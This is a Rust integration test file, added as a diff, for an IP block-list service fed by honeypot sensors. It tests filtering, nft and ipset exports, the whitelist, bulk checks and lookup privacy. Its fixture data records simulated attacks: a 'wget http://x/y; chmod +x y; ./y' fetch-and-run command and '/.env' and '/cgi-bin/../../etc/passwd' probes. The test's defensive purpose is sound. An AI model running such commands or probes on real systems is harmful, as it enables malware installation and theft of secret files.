@@ -1,0 +1,447 @@
+//! Block lists: filters, ordering, every format (loaded into real `nft` and
+//! `ipset` inside a private network namespace), the whitelist, bulk check,
+//! and proof that lookups leave no trace but counters.
+
+use std::process::Command;
+
+use reqwest::StatusCode;
+use serde_json::{Value, json};
+
+use crate::common::TestServer;
+
+async fn server_with_data() -> (TestServer, String) {
+    let s = TestServer::start().await;
+    let services = s.handle().services.clone();
+    let key = services.create_api_key("bl", "free", None).await.unwrap().0;
+    let token = services.create_sensor("hp").await.unwrap().0;
+    let t = s.clock.now().0;
+    let mut lines = Vec::new();
+    // 80.0.0.1: brute force + malware (high score); 80.0.0.2: web scan over http;
+    // 2a02:1::1: port scan only (low score); 80.0.0.3: reported only.
+    for i in 0..30 {
+        lines.push(json!({"ts": t + i, "src_ip": "80.0.0.1", "protocol": "ssh", "session_id": format!("a{}", i / 10), "kind": "auth", "username": "root"}));
+    }
+    lines.push(json!({"ts": t + 40, "src_ip": "80.0.0.1", "protocol": "ssh", "session_id": "a9", "kind": "command", "command": "wget http://x/y; chmod +x y; ./y"}));
+    for (i, p) in ["/.env", "/wp-login.php", "/cgi-bin/../../etc/passwd"]
+        .iter()
+        .enumerate()
+    {
+        lines.push(json!({"ts": t + 50 + i as i64, "src_ip": "80.0.0.2", "protocol": "http", "session_id": format!("h{i}"), "kind": "http_request", "http_path": p}));
+    }
+    for port in 1..=6 {
+        lines.push(json!({"ts": t + 60 + port, "src_ip": "2a02:1::1", "protocol": "telnet", "dst_port": port, "session_id": format!("p{port}"), "kind": "connect"}));
+    }
+    let body: String = lines.iter().map(|l| l.to_string() + "\n").collect();
+    let r = s
+        .client
+        .post(s.url("/v1/sensor/events"))
+        .bearer_auth(&token)
+        .body(body)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), StatusCode::OK);
+    let r = s
+        .client
+        .post(s.url("/v1/key/report"))
+        .bearer_auth(&key)
+        .json(&json!({"ip": "80.0.0.3", "category": "spam"}))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), StatusCode::OK);
+    (s, key)
+}
+
+async fn text(s: &TestServer, key: &str, q: &str) -> (StatusCode, String, String) {
+    let r = s
+        .client
+        .get(s.url(&format!("/v1/key/blacklist?{q}")))
+        .bearer_auth(key)
+        .send()
+        .await
+        .unwrap();
+    let ct = r
+        .headers()
+        .get("content-type")
+        .map(|v| v.to_str().unwrap().to_owned())
+        .unwrap_or_default();
+    (r.status(), ct, r.text().await.unwrap())
+}
+
+#[tokio::test]
+async fn filters_order_and_json_shape() {
+    let (s, key) = server_with_data().await;
+    let (st, ct, body) = text(&s, &key, "scoreMinimum=1").await;
+    assert_eq!(st, StatusCode::OK);
+    assert_eq!(ct, "application/json");
+    let v: Value = serde_json::from_str(&body).unwrap();
+    let ips: Vec<&str> = v["data"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|e| e["ip"].as_str().unwrap())
+        .collect();
+    assert_eq!(ips.len(), 4);
+    assert_eq!(ips[0], "80.0.0.1", "highest confidence first: {ips:?}");
+    let scores: Vec<u64> = v["data"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|e| e["confidenceLevel"].as_u64().unwrap())
+        .collect();
+    assert!(scores.windows(2).all(|w| w[0] >= w[1]), "{scores:?}");
+    assert_eq!(v["meta"]["count"], 4);
+    assert_eq!(v["meta"]["scoreMinimum"], 1);
+    assert_eq!(v["meta"]["limit"], 5000, "the free tier's cap");
+    assert!(v["meta"]["generatedAt"].is_i64());
+    let first = &v["data"][0];
+    assert!(first["lastSeen"].is_i64() && first["sessions"].as_u64().unwrap() >= 3);
+    assert_eq!(first["protocols"], json!(["ssh"]));
+
+    let plain = |q: &'static str| {
+        let s = &s;
+        let key = key.clone();
+        async move { text(s, &key, q).await.2 }
+    };
+    assert_eq!(
+        plain("scoreMinimum=1&plaintext=true&limit=1").await,
+        "80.0.0.1\n"
+    );
+    assert_eq!(
+        plain("scoreMinimum=1&plaintext=true&ipVersion=6").await,
+        "2a02:1::1\n"
+    );
+    assert!(
+        !plain("scoreMinimum=1&plaintext=true&ipVersion=4")
+            .await
+            .contains(':')
+    );
+    assert_eq!(
+        plain("scoreMinimum=1&plaintext=true&protocols=http").await,
+        "80.0.0.2\n"
+    );
+    assert_eq!(
+        plain("scoreMinimum=1&plaintext=true&protocols=ssh,telnet")
+            .await
+            .lines()
+            .count(),
+        2
+    );
+    assert_eq!(
+        plain("scoreMinimum=1&plaintext=true&minSeverity=very_high").await,
+        "80.0.0.1\n"
+    );
+    assert_eq!(
+        plain("scoreMinimum=1&plaintext=true&minSeverity=high")
+            .await
+            .lines()
+            .count(),
+        2
+    );
+    assert_eq!(
+        plain("scoreMinimum=100&plaintext=true").await,
+        "",
+        "nothing matches: empty body"
+    );
+    assert_eq!(
+        plain("scoreMinimum=1&plaintext=true&onlyCountries=CN").await,
+        "",
+        "no geolocation: no country matches"
+    );
+    assert_eq!(
+        plain("scoreMinimum=1&plaintext=true&exceptCountries=US")
+            .await
+            .lines()
+            .count(),
+        4
+    );
+    let (_, ct, _) = text(&s, &key, "plaintext=true").await;
+    assert_eq!(ct, "text/plain; charset=utf-8");
+    let csv = plain("scoreMinimum=1&format=csv").await;
+    assert!(
+        csv.starts_with("ip,confidence,last_seen,sessions,protocols\n80.0.0.1,"),
+        "{csv}"
+    );
+
+    for bad in [
+        "scoreMinimum=0",
+        "scoreMinimum=101",
+        "scoreMinimum=x",
+        "limit=0",
+        "ipVersion=5",
+        "minSeverity=extreme",
+        "protocols=gopher",
+        "format=xml",
+        "onlyAsn=ASX",
+        "onlyCountries=USA",
+        "plaintext=maybe",
+        "setName=a%20b",
+    ] {
+        let (st, _, body) = text(&s, &key, bad).await;
+        assert_eq!(st, StatusCode::BAD_REQUEST, "{bad}");
+        let param = bad.split('=').next().unwrap();
+        assert!(body.contains(param), "{bad}: {body}");
+    }
+}
+
+#[tokio::test]
+async fn whitelist_is_never_listed_and_flagged_in_answers() {
+    let (s, key) = server_with_data().await;
+    let services = s.handle().services.clone();
+    services
+        .whitelist_add("80.0.0.0/30", "our office")
+        .await
+        .unwrap();
+    let (_, _, body) = text(&s, &key, "scoreMinimum=1&plaintext=true").await;
+    assert_eq!(body, "2a02:1::1\n", "80.0.0.1-3 are whitelisted");
+    let (_, _, body) = text(
+        &s,
+        &key,
+        "scoreMinimum=1&plaintext=true&ignoreWhitelist=true",
+    )
+    .await;
+    assert_eq!(body.lines().count(), 4);
+    let v: Value = s
+        .client
+        .get(s.url("/v1/key/check/80.0.0.1"))
+        .bearer_auth(&key)
+        .send()
+        .await
+        .unwrap()
+        .json()
+        .await
+        .unwrap();
+    assert_eq!(v["isWhitelisted"], true);
+    assert_eq!(v["confidenceLevel"], 0);
+    assert_eq!(v["scoreExplanation"]["whitelistDiscount"], true);
+    let v: Value = s
+        .client
+        .get(s.url("/v1/key/check/80.0.0.1?ignoreWhitelist=true"))
+        .bearer_auth(&key)
+        .send()
+        .await
+        .unwrap()
+        .json()
+        .await
+        .unwrap();
+    assert!(v["confidenceLevel"].as_u64().unwrap() >= 60);
+    assert!(services.whitelist_add("not-a-net", "x").await.is_err());
+    assert!(services.whitelist_add("10.0.0.0/33", "x").await.is_err());
+    assert!(services.whitelist_add("10.0.0.0/8", "").await.is_err());
+    services.whitelist_remove("80.0.0.0/30").await.unwrap();
+    assert!(services.whitelist_remove("80.0.0.0/30").await.is_err());
+    let (_, _, body) = text(&s, &key, "scoreMinimum=1&plaintext=true").await;
+    assert_eq!(body.lines().count(), 4);
+}
+
+/// Runs `script` in a private network namespace; None when the tools are
+/// missing outside CI (CI installs them, and there a missing tool fails).
+fn in_netns(tool: &str, script: &str) -> Option<std::process::Output> {
+    let present = Command::new("sh")
+        .args(["-c", &format!("command -v {tool} && command -v unshare")])
+        .output()
+        .unwrap()
+        .status
+        .success();
+    if !present {
+        assert!(
+            std::env::var_os("CI").is_none(),
+            "{tool} must be installed in CI"
+        );
+        eprintln!("skipped: {tool} is not installed");
+        return None;
+    }
+    Some(
+        Command::new("unshare")
+            .args(["-n", "sh", "-c", script])
+            .output()
+            .unwrap(),
+    )
+}
+
+#[tokio::test]
+async fn ipset_and_nft_files_load_into_the_real_tools() {
+    let (s, key) = server_with_data().await;
+    let dir = tempfile::tempdir().unwrap();
+    let (_, _, nft) = text(
+        &s,
+        &key,
+        "scoreMinimum=1&format=nft&table=sikkertest&setName=block",
+    )
+    .await;
+    let nft_file = dir.path().join("list.nft");
+    std::fs::write(&nft_file, &nft).unwrap();
+    if let Some(out) = in_netns(
+        "nft",
+        &format!(
+            "nft -f {f} && nft -f {f} && nft list table inet sikkertest",
+            f = nft_file.display()
+        ),
+    ) {
+        let listing = String::from_utf8_lossy(&out.stdout);
+        assert!(
+            out.status.success(),
+            "{}\n{nft}",
+            String::from_utf8_lossy(&out.stderr)
+        );
+        for ip in ["80.0.0.1", "80.0.0.2", "80.0.0.3", "2a02:1::1"] {
+            assert!(listing.contains(ip), "{ip} missing from\n{listing}");
+        }
+    }
+    let (_, _, ipset) = text(&s, &key, "scoreMinimum=1&format=ipset&setName=sikkertest").await;
+    let ipset_file = dir.path().join("list.ipset");
+    std::fs::write(&ipset_file, &ipset).unwrap();
+    if let Some(out) = in_netns(
+        "ipset",
+        &format!(
+            "ipset restore < {f} && ipset restore < {f} && ipset list sikkertest && ipset list sikkertest6",
+            f = ipset_file.display()
+        ),
+    ) {
+        let listing = String::from_utf8_lossy(&out.stdout);
+        assert!(
+            out.status.success(),
+            "{}\n{ipset}",
+            String::from_utf8_lossy(&out.stderr)
+        );
+        for ip in ["80.0.0.1", "80.0.0.3", "2a02:1::1"] {
+            assert!(listing.contains(ip), "{ip} missing from\n{listing}");
+        }
+    }
+    // An empty list is still a valid file for both tools.
+    let (_, _, empty) = text(&s, &key, "scoreMinimum=100&format=nft&table=sikkerempty").await;
+    std::fs::write(&nft_file, &empty).unwrap();
+    if let Some(out) = in_netns("nft", &format!("nft -f {}", nft_file.display())) {
+        assert!(
+            out.status.success(),
+            "{}\n{empty}",
+            String::from_utf8_lossy(&out.stderr)
+        );
+    }
+}
+
+#[tokio::test]
+async fn bulk_check_many_ips() {
+    let (s, key) = server_with_data().await;
+    let body = "IP Address\n80.0.0.1\n\n8.8.8.8, some note\nnot-an-ip\n2a02:1::1\n";
+    let r = s
+        .client
+        .post(s.url("/v1/key/bulk-check-inline"))
+        .bearer_auth(&key)
+        .header("content-type", "text/plain")
+        .body(body)
+        .send()
+        .await
+        .unwrap();
+    let v: Value = r.json().await.unwrap();
+    assert_eq!(v["queried"], 3);
+    assert_eq!(v["found"], 2);
+    assert_eq!(
+        v["results"][1],
+        json!({"ip": "8.8.8.8", "found": false, "confidenceLevel": null, "isWhitelisted": false, "countryCode": null, "lastSeen": null})
+    );
+    assert!(v["results"][0]["lastSeen"].is_i64());
+    assert_eq!(v["errors"][0]["line"], 5);
+    let r = s
+        .client
+        .post(s.url("/v1/key/bulk-check"))
+        .bearer_auth(&key)
+        .json(&json!({"ips": ["80.0.0.2", 7]}))
+        .send()
+        .await
+        .unwrap();
+    let v: Value = r.json().await.unwrap();
+    assert_eq!(
+        (v["queried"].as_u64(), v["found"].as_u64()),
+        (Some(1), Some(1))
+    );
+    let many: String = (0..10_001)
+        .map(|i| format!("9.{}.{}.1\n", i / 256, i % 256))
+        .collect();
+    let r = s
+        .client
+        .post(s.url("/v1/key/bulk-check-inline"))
+        .bearer_auth(&key)
+        .body(many)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), StatusCode::BAD_REQUEST);
+    let ten_k: String = (0..10_000)
+        .map(|i| format!("9.{}.{}.1\n", i / 256, i % 256))
+        .collect();
+    let r = s
+        .client
+        .post(s.url("/v1/key/bulk-check-inline"))
+        .bearer_auth(&key)
+        .body(ten_k)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.json::<Value>().await.unwrap()["queried"], 10_000);
+}
+
+#[tokio::test]
+async fn lookups_leave_nothing_but_counters() {
+    let (mut s, key) = server_with_data().await;
+    let key_id = s.handle().services.list_api_keys().unwrap()[0].id;
+    let probes = ["93.184.216.34", "151.101.1.69", "2606:4700::6810:85e5"];
+    for ip in probes {
+        let r = s
+            .client
+            .get(s.url(&format!("/v1/key/check/{ip}")))
+            .bearer_auth(&key)
+            .send()
+            .await
+            .unwrap();
+        assert_eq!(r.status(), StatusCode::OK);
+    }
+    let r = s
+        .client
+        .post(s.url("/v1/key/bulk-check-inline"))
+        .bearer_auth(&key)
+        .body(probes.join("\n"))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), StatusCode::OK);
+    let r = s
+        .client
+        .get(s.url("/v1/key/username/secret-probe-name"))
+        .bearer_auth(&key)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), StatusCode::NOT_FOUND);
+    let services = s.handle().services.clone();
+    assert_eq!(
+        services
+            .usage_today(key_id, sikker::service::usage::Bucket::Lookups)
+            .await
+            .unwrap(),
+        7
+    );
+    drop(services);
+    let data = s.data_dir.clone();
+    s.stop().await; // flushes counters and closes the database
+    let db = std::fs::read(data.join("sikker.redb")).unwrap();
+    let has = |needle: &[u8]| db.windows(needle.len()).any(|w| w == needle);
+    for ip in probes {
+        let k = sikker::domain::IpKey::from_ip(ip.parse().unwrap()).0;
+        assert!(!has(ip.as_bytes()), "{ip} appears as text in the database");
+        assert!(
+            !has(&k.to_le_bytes()) && !has(&k.to_be_bytes()),
+            "{ip} appears as a key in the database"
+        );
+    }
+    assert!(!has(b"secret-probe-name"));
+    // The counters themselves were persisted.
+    let opened = sikker::store::Store::open(&data.join("sikker.redb")).unwrap();
+    let day = crate::common::T0.day();
+    let n = opened
+        .store
+        .read_blocking(|t| sikker::store::usage::get(t, key_id, day, 1))
+        .unwrap();
+    assert_eq!(n, 7);
+}
